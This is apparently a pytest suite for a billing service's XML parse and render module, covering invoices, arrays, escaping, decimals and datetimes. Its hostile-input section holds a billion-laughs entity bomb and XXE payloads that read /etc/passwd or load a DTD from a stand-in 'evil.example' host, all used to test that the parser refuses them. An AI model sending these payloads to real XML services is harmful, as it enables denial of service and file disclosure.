from __future__ import annotations

import time
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from billing.domain.errors import MalformedInput
from billing.wire.xml import (
    MAX_BODY_BYTES,
    MAX_ELEMENTS,
    XmlArray,
    XmlAttributes,
    format_decimal,
    parse_xml,
    render_xml,
    singularize,
)

REFERENCE_INVOICE = b"""<?xml version="1.0" encoding="UTF-8"?>
<invoice>
<client_id>100</client_id>
<currency_id>200</currency_id>
<document_date>2011-05-20</document_date>
<document_series_id>300</document_series_id>
<document_series_counter>10</document_series_counter>
<vat_type>1</vat_type>
<document_positions>
<document_position>
<description>BASIC SUBSCRIPTION</description>
<unit>months</unit>
<unit_count>12</unit_count>
<price>12</price>
<vat>24</vat>
</document_position>
<document_position>
<type>DiscountPosition</type>
<description>Discount for advanced payment</description>
<discount_rate>10</discount_rate>
</document_position>
</document_positions>
</invoice>"""


# ------------------------------------------------------------------------------------- parse_xml


def test_reference_invoice_parses_like_rails_from_xml() -> None:
    root, value = parse_xml(REFERENCE_INVOICE)
    assert root == "invoice"
    assert value == {
        "client_id": "100",
        "currency_id": "200",
        "document_date": "2011-05-20",
        "document_series_id": "300",
        "document_series_counter": "10",
        "vat_type": "1",
        "document_positions": {
            "document_position": [
                {
                    "description": "BASIC SUBSCRIPTION",
                    "unit": "months",
                    "unit_count": "12",
                    "price": "12",
                    "vat": "24",
                },
                {
                    "type": "DiscountPosition",
                    "description": "Discount for advanced payment",
                    "discount_rate": "10",
                },
            ]
        },
    }


def test_reference_series_body_with_bare_declaration() -> None:
    body = (
        '<?xml version="1.0"?>\n<proforma_invoice_series>\n<counter_start>100</counter_start>\n'
        "<prefix>PREFIXUSS</prefix>\n<sepparator>-</sepparator>\n<year>2021</year>\n"
        "</proforma_invoice_series>"
    )
    assert parse_xml(body) == (
        "proforma_invoice_series",
        {"counter_start": "100", "prefix": "PREFIXUSS", "sepparator": "-", "year": "2021"},
    )


def test_single_child_of_wrapper_stays_a_dict() -> None:
    _, value = parse_xml(
        b"<invoice><document_positions><document_position><vat>24</vat>"
        b"</document_position></document_positions></invoice>"
    )
    assert value == {"document_positions": {"document_position": {"vat": "24"}}}


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (b'<clients type="array"></clients>', []),
        (b'<clients type="array">\n  </clients>', []),
        (b'<clients type="array"/>', []),
        (b'<clients type="array"><client><id>1</id></client></clients>', [{"id": "1"}]),
        (
            b'<clients type="array"><client><id>1</id></client><client><id>2</id></client></clients>',
            [{"id": "1"}, {"id": "2"}],
        ),
        (b'<tags type="array"><tag>a</tag><tag>b</tag></tags>', ["a", "b"]),
    ],
)
def test_type_array_is_always_a_list(body: bytes, expected: list[object]) -> None:
    assert parse_xml(body)[1] == expected


def test_repeated_siblings_become_a_list_in_document_order() -> None:
    _, value = parse_xml(b"<email><to>a@x.ro</to><body>hi</body><to>b@x.ro</to><to>c@x.ro</to></email>")
    assert value == {"to": ["a@x.ro", "b@x.ro", "c@x.ro"], "body": "hi"}


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (b"<c><code></code></c>", {"code": ""}),
        (b"<c><code/></c>", {"code": ""}),
        (b"<c><code>  \n\t </code></c>", {"code": ""}),
        (b"<c><name> Ana  Pop </name></c>", {"name": " Ana  Pop "}),
        (b"<c><body>line 1\nline 2</body></c>", {"body": "line 1\nline 2"}),
        (b'<c><note nil="true"/></c>', {"note": None}),
        (b'<c><note nil="true">ignored</note></c>', {"note": None}),
        (b'<c><id type="integer">741342701</id></c>', {"id": "741342701"}),
        (b'<c><price type="decimal">12.0</price></c>', {"price": "12.0"}),
        (b"<c><n>A &amp; B &lt;3 &#x219;&#537;</n></c>", {"n": "A & B <3 șș"}),
        (b"<c><n><![CDATA[<b>bold</b>]]></n></c>", {"n": "<b>bold</b>"}),
    ],
)
def test_leaves_stay_strings(body: bytes, expected: dict[str, object]) -> None:
    assert parse_xml(body)[1] == expected


def test_attributes_become_keys() -> None:
    _, value = parse_xml(b'<dues><due currency="EUR" amount="100"/><due currency="RON" amount="200"/></dues>')
    assert value == {"due": [{"currency": "EUR", "amount": "100"}, {"currency": "RON", "amount": "200"}]}


def test_dashes_become_underscores_and_namespaces_are_dropped() -> None:
    body = b'<client xmlns="urn:x" xmlns:f="urn:f"><tax-id>1</tax-id><f:due f:currency="EUR"/></client>'
    assert parse_xml(body) == ("client", {"tax_id": "1", "due": {"currency": "EUR"}})


def test_comments_and_processing_instructions_are_ignored() -> None:
    body = b'<?xml version="1.0"?><?php echo 1; ?><client><!-- c --><name>X<!-- y --></name></client>'
    assert parse_xml(body) == ("client", {"name": "X"})


@pytest.mark.parametrize(
    "body",
    [
        b"<client>text<name>X</name></client>",
        b'<price currency="EUR">12</price>',
        b'<a type="array">x<b/></a>',
    ],
)
def test_mixed_content_is_refused_not_dropped(body: bytes) -> None:
    with pytest.raises(MalformedInput, match="XML element <"):
        parse_xml(body)


def test_str_bodies_and_other_declared_encodings() -> None:
    assert parse_xml("<client><name>Ștefan</name></client>") == ("client", {"name": "Ștefan"})
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><c><n>café</n></c>'.encode("latin-1")
    assert parse_xml(latin) == ("c", {"n": "café"})
    assert parse_xml("\ufeff<c><n>x</n></c>".encode()) == ("c", {"n": "x"})
    assert parse_xml(b'\r\n  <?xml version="1.0"?><c/>') == ("c", "")
    assert parse_xml('\ufeff\n<?xml version="1.0"?><c/>') == ("c", "")


# ------------------------------------------------------------------------------ hostile parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<client><name>&lol9;</name></client>"""


def test_billion_laughs_is_refused_fast() -> None:
    started = time.perf_counter()
    with pytest.raises(MalformedInput, match="DTDs and entity declarations are not allowed"):
        parse_xml(BILLION_LAUGHS)
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0"?><!DOCTYPE client [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<client><name>&xxe;</name></client>",
        b'<!DOCTYPE client SYSTEM "file:///etc/passwd"><client/>',
        b'<!DOCTYPE client [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><client/>',
        b"<!DOCTYPE client><client/>",
        b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x.dtd"><client/>',
    ],
)
def test_any_doctype_is_refused(body: bytes) -> None:
    with pytest.raises(MalformedInput, match="DTDs and entity declarations are not allowed"):
        parse_xml(body)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   ",
        b"<client><name>X</name>",
        b"<client><name>X</client>",
        b"<client>&undefined;</client>",
        b"<a/><b/>",
        b"not xml at all",
        b"<client><name>\xff\xfe</name></client>",
        b"<c>\x00</c>",
        b'<c a="1" a="2"/>',
    ],
)
def test_malformed_xml_is_refused(body: bytes) -> None:
    with pytest.raises(MalformedInput, match="malformed XML"):
        parse_xml(body)


def test_oversize_body_is_refused_before_parsing() -> None:
    body = b"<c>" + b"x" * (2 * MAX_BODY_BYTES) + b"</c>"
    with pytest.raises(MalformedInput, match="larger than 1048576 bytes"):
        parse_xml(body)
    with pytest.raises(MalformedInput, match="larger than"):
        parse_xml(body.decode())


def test_nesting_limit() -> None:
    def nested(depth: int) -> bytes:
        return b"<a>" * depth + b"x" + b"</a>" * depth

    assert parse_xml(nested(32))[0] == "a"
    with pytest.raises(MalformedInput, match="nested deeper than 32"):
        parse_xml(nested(33))
    with pytest.raises(MalformedInput, match="nested deeper than 32"):
        parse_xml(nested(40))
    # refused while parsing: the unclosed remainder is never reached
    with pytest.raises(MalformedInput, match="nested deeper than 32"):
        parse_xml(b"<a>" * 100_000)


def test_element_count_limit() -> None:
    ok = b"<r>" + b"<i/>" * (MAX_ELEMENTS - 1) + b"</r>"
    assert len(parse_xml(ok)[1]["i"]) == MAX_ELEMENTS - 1
    with pytest.raises(MalformedInput, match="more than 10000 elements"):
        parse_xml(b"<r>" + b"<i/>" * MAX_ELEMENTS + b"</r>")


# ------------------------------------------------------------------------------------ render_xml


def test_render_small_record_exactly() -> None:
    product = {
        "code": "",
        "created_at": datetime(2011, 5, 19, 14, 53, 41, tzinfo=timezone(timedelta(hours=3))),
        "description": "online-billing-service.com standard subscription",
        "id": 741342701,
        "price": Decimal("12"),
        "active": True,
        "valid_until": date(2012, 1, 31),
        "unit": None,
    }
    assert render_xml("product", product) == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b"<product>\n"
        b"  <code></code>\n"
        b'  <created_at type="datetime">2011-05-19T14:53:41+03:00</created_at>\n'
        b"  <description>online-billing-service.com standard subscription</description>\n"
        b'  <id type="integer">741342701</id>\n'
        b'  <price type="decimal">12.0</price>\n'
        b'  <active type="boolean">true</active>\n'
        b'  <valid_until type="date">2012-01-31</valid_until>\n'
        b'  <unit nil="true"/>\n'
        b"</product>\n"
    )


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("12", "12.0"),
        ("12.50", "12.5"),
        ("0.74", "0.74"),
        ("-3.460", "-3.46"),
        ("1E+2", "100.0"),
        ("0", "0.0"),
        ("-0.00", "0.0"),
        ("0.000", "0.0"),
        ("1E-7", "0.0000001"),
        ("123456789012345678901234567890.125", "123456789012345678901234567890.125"),
    ],
)
def test_decimals_render_rails_style(value: str, text: str) -> None:
    assert format_decimal(Decimal(value)) == text
    assert f'<x type="decimal">{text}</x>'.encode() in render_xml("x", Decimal(value))


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC), "2024-01-02T03:04:05Z"),
        (datetime(2024, 1, 2, 3, 4, 5, 999_999, tzinfo=UTC), "2024-01-02T03:04:05Z"),
        (datetime(2024, 1, 2, 3, 4, 5), "2024-01-02T03:04:05Z"),
        (datetime(2024, 1, 2, 3, 4, 5, tzinfo=timezone(timedelta(hours=2))), "2024-01-02T03:04:05+02:00"),
        (
            datetime(2024, 1, 2, 3, 4, 5, tzinfo=timezone(timedelta(hours=-5, minutes=-30))),
            "2024-01-02T03:04:05-05:30",
        ),
    ],
)
def test_datetimes_render_iso(value: datetime, text: str) -> None:
    assert f'<at type="datetime">{text}</at>'.encode() in render_xml("at", value)


def test_booleans() -> None:
    assert b'<paid type="boolean">false</paid>' in render_xml("paid", False)


@pytest.mark.parametrize(
    ("plural", "singular"),
    [
        ("document_positions", "document_position"),
        ("clients", "client"),
        ("branch_offices", "branch_office"),
        ("invoice_series", "invoice_series"),
        ("proforma_invoice_series", "proforma_invoice_series"),
        ("currencies", "currency"),
        ("countries", "country"),
        ("addresses", "address"),
        ("taxes", "tax"),
        ("branches", "branch"),
        ("statuses", "status"),
        ("expenses", "expense"),
        ("purchases", "purchase"),
        ("recurrent_jobs", "recurrent_job"),
        ("dues", "due"),
        ("class", "class"),
        ("data", "data"),
    ],
)
def test_singularize(plural: str, singular: str) -> None:
    assert singularize(plural) == singular


def test_lists_are_typed_arrays_named_by_singular_key() -> None:
    xml = render_xml("invoice", {"document_positions": [{"vat": 19}, {"vat": 9}], "tags": []}).decode()
    assert xml == (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        "<invoice>\n"
        '  <document_positions type="array">\n'
        "    <document_position>\n"
        '      <vat type="integer">19</vat>\n'
        "    </document_position>\n"
        "    <document_position>\n"
        '      <vat type="integer">9</vat>\n'
        "    </document_position>\n"
        "  </document_positions>\n"
        '  <tags type="array"/>\n'
        "</invoice>\n"
    )


def test_top_level_list() -> None:
    xml = render_xml("clients", [{"id": 1}, {"id": 2}])
    assert xml == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<clients type="array">\n'
        b"  <client>\n"
        b'    <id type="integer">1</id>\n'
        b"  </client>\n"
        b"  <client>\n"
        b'    <id type="integer">2</id>\n'
        b"  </client>\n"
        b"</clients>\n"
    )
    assert parse_xml(xml) == ("clients", [{"id": "1"}, {"id": "2"}])
    assert render_xml("invoice_series", []) == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<invoice_series type="array"/>\n'
    )


def test_xml_array_forces_the_child_tag() -> None:
    account = {
        "account_banks": XmlArray(
            [
                {
                    "name": "Bank Name",
                    "bic": "1000000",
                    "accounts": XmlArray([{"iban": "GBKKBBBBSSSSSSCCCCCCCC", "currency": "EUR"}], "account"),
                }
            ],
            "bank",
        )
    }
    xml = render_xml("account", account).decode()
    assert (
        '  <account_banks type="array">\n'
        "    <bank>\n"
        "      <name>Bank Name</name>\n"
        "      <bic>1000000</bic>\n"
        '      <accounts type="array">\n'
        "        <account>\n"
        "          <iban>GBKKBBBBSSSSSSCCCCCCCC</iban>\n"
    ) in xml
    assert parse_xml(xml)[1]["account_banks"][0]["accounts"] == [
        {"iban": "GBKKBBBBSSSSSSCCCCCCCC", "currency": "EUR"}
    ]


def test_untyped_xml_array() -> None:
    assert render_xml("errors", XmlArray(["a", "b"], "error", typed=False)) == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b"<errors>\n  <error>a</error>\n  <error>b</error>\n</errors>\n"
    )


def test_xml_attributes() -> None:
    dues = XmlArray(
        [
            XmlAttributes({"currency": "EUR", "amount": 100}),
            XmlAttributes({"currency": "RON", "amount": Decimal("200.50")}),
        ],
        "due",
    )
    xml = render_xml("sheet", {"dues": dues})
    assert b'<due currency="EUR" amount="100"/>' in xml
    assert b'<due currency="RON" amount="200.5"/>' in xml
    job = XmlAttributes(
        {
            "id": 1,
            "payment_start_at": date(2011, 1, 1),
            "payment_end_at": None,
            "active": True,
            "name": 'a"<&>\n',
        }
    )
    assert render_xml("recurrent_job", job).endswith(
        b'<recurrent_job id="1" payment_start_at="2011-01-01" payment_end_at="" active="true" '
        b'name="a&quot;&lt;&amp;&gt;&#10;"/>\n'
    )
    assert parse_xml(render_xml("recurrent_job", job))[1]["name"] == 'a"<&>\n'


def test_text_is_escaped_and_illegal_characters_stripped() -> None:
    value = "Tom & Jerry <srl> \"q\" 'a' ]]> \r\n ș\x00\x07\x0b\ufffe end"
    xml = render_xml("name", value)
    assert b"Tom &amp; Jerry &lt;srl&gt; \"q\" 'a' ]]&gt; &#13;\n \xc8\x99 end" in xml
    assert parse_xml(xml) == ("name", "Tom & Jerry <srl> \"q\" 'a' ]]> \r\n ș end")


def test_round_trip_keeps_structure() -> None:
    client = {
        "id": 7,
        "name": "Ștefan & Fiii SRL",
        "address": {"city": "Iași", "zip": "700000"},
        "contacts": [{"email": "a@b.ro"}, {"email": "c@d.ro"}],
        "fax": None,
        "empty": {},
    }
    assert parse_xml(render_xml("client", client)) == (
        "client",
        {
            "id": "7",
            "name": "Ștefan & Fiii SRL",
            "address": {"city": "Iași", "zip": "700000"},
            "contacts": [{"email": "a@b.ro"}, {"email": "c@d.ro"}],
            "fax": None,
            "empty": "",
        },
    )


def test_unrenderable_values_are_bugs() -> None:
    with pytest.raises(TypeError, match="float"):
        render_xml("price", {"price": 1.5})
    with pytest.raises(TypeError, match="non-finite"):
        render_xml("price", Decimal("NaN"))
    with pytest.raises(TypeError, match="object"):
        render_xml("x", object())
    with pytest.raises(ValueError, match="invalid XML name"):
        render_xml("client", {"bad name": 1})
    with pytest.raises(ValueError, match="invalid XML name"):
        render_xml("client", {"1st": 1})
    with pytest.raises(ValueError, match="invalid XML name"):
        render_xml("due", XmlAttributes({"a=b": 1}))
